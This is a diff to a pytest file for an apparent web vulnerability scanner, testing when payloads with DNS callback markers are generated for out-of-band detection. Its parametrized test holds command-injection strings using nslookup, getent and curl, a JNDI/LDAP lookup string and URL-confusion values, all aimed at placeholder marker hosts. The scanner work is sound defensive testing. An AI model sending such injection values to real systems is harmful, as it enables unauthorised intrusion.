@@ -249,15 +249,15 @@ def test_payload_inside_a_document_goes_to_each_kind_of_element_with_the_prolog_
 # markers and confirmation
 
 
-def test_attacks_have_fresh_markers_and_payloads_with_a_domain_need_one():
+def test_attacks_have_fresh_markers_and_payloads_for_a_callback_need_a_listener():
     extension = extension_with(
-        "generate: {payload: ['<STR_MARKER>', '//DNS_MARKER', CALC_MARKER], into: GET_a}"
+        "generate: {payload: ['<STR_MARKER>', '//DNS_MARKER', CALC_MARKER], into: GET_a}", "[oob]"
     )
     request = get("/?a=1")
     point = point_of(request, "GET_a_value")
     without = list(extension.attacks(request, point, MarkerSource(1)))
     assert [attack.template for attack in without] == ["<STR_MARKER>", "CALC_MARKER"]
-    attacks = list(extension.attacks(request, point, MarkerSource(1, "oob.example")))
+    attacks = list(extension.attacks(request, point, MarkerSource(1, "*.oob.example")))
     assert attacks[1].payload == f"//{attacks[1].markers.domain}"
     assert len({attack.markers.text for attack in attacks}) == 3
 
@@ -363,10 +363,40 @@ def test_fixed_request_with_its_own_length_keeps_it():
     assert sent(text)[0].get_all(b"content-length") == [b"3"]
 
 
-def test_fixed_request_with_a_domain_marker_needs_a_domain():
-    text = SEND.replace("/b'", "/DNS_MARKER'")
+def test_fixed_request_for_a_callback_needs_a_listener():
+    text = SEND.replace("/b'", "/DNS_MARKER'").partition("detect:")[0] + "detect: [oob]"
     assert len(sent(text)) == 1
-    assert b".oob.example" in sent(text, "oob.example")[1].target
+    assert b".oob.example" in sent(text, "*.oob.example")[1].target
+
+
+def test_payload_whose_answer_may_show_it_too_is_sent_without_a_listener():
+    extension = extension_with(
+        "generate: {payload: ['|host DNS_MARKER;echo CALC_MARKER'], into: GET_a}",
+        "[{oob: [dns]}, {response: [{body: CALC_MARKER}]}]",
+    )
+    (attack,) = extension.attacks(get("/?a=1"), point_of(get("/?a=1"), "GET_a_value"), MarkerSource(1))
+    assert attack.markers.domain.endswith(".invalid")
+
+
+@pytest.mark.parametrize(
+    ("payload", "callback", "sent"),
+    [
+        (";nslookup DNS_MARKER", "10.0.0.1:80/*", False),
+        ("$(getent%20hosts%20DNS_MARKER)", "10.0.0.1:80/*", False),
+        ("getent$IFS$9hosts$IFS$9DNS_MARKER", "10.0.0.1:80/*", False),
+        ("//x.DNS_MARKER/", "10.0.0.1:80/*", False),
+        (";nslookup DNS_MARKER", "*.oob.example", True),
+        ("curl http://DNS_MARKER||nslookup DNS_MARKER", "10.0.0.1:80/*", True),
+        ("%2f%2fDNS_MARKER", "10.0.0.1:80/*", True),
+        ("http://localhost@DNS_MARKER/", "10.0.0.1:80/*", True),
+        ("${jndi:ldap://DNS_MARKER}", "10.0.0.1:80/*", True),
+    ],
+)
+def test_payload_that_only_a_resolver_reads_needs_a_name(payload: str, callback: str, sent: bool):
+    extension = extension_with(f"generate: {{payload: [{payload!r}], into: GET_a}}", "[oob]")
+    request = get("/?a=1")
+    source = MarkerSource(1, callback)
+    assert bool(list(extension.attacks(request, point_of(request, "GET_a_value"), source))) is sent
 
 
 def test_fixed_requests_are_unique_by_host():
